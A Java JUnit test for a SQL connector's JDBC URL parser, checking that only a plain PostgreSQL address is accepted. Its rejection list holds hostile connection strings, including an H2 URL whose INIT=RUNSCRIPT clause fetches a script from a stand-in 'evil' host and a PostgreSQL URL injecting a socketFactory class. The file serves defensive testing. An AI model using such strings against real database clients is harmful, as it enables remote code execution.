package io.patchbay.connector.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.patchbay.payload.StepException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SqlAddressTest {

    @Test
    void hasHostPortAndDatabase() throws Exception {
        assertThat(SqlAddress.parse("jdbc:postgresql://db.example.com/shop").url())
                .isEqualTo("jdbc:postgresql://db.example.com:5432/shop");
        assertThat(SqlAddress.parse("jdbc:h2:tcp://[::1]:9/shop").host()).isEqualTo("::1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:tcp://db/shop;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:shop",
                "jdbc:h2:./data/store",
                "jdbc:h2:file:/etc/x",
                "jdbc:h2:tcp://db/../store",
                "jdbc:h2:tcp://db/mem:shop",
                "jdbc:postgresql://db/shop?socketFactory=org.example.Evil",
                "jdbc:postgresql://db,other/shop",
                "jdbc:postgresql://user@db/shop",
                "jdbc:postgresql:shop",
                "jdbc:postgresql://db/",
                "jdbc:postgresql://db/a b",
                "jdbc:postgresql://db/a\n",
                "jdbc:mysql://db/shop",
                "http://db/shop"
            })
    void hasNoOtherForm(String url) {
        assertThatThrownBy(() -> SqlAddress.parse(url))
                .isInstanceOf(StepException.class)
                .hasMessageContaining("is not like jdbc:postgresql://db.example.com:5432/shop");
    }
}
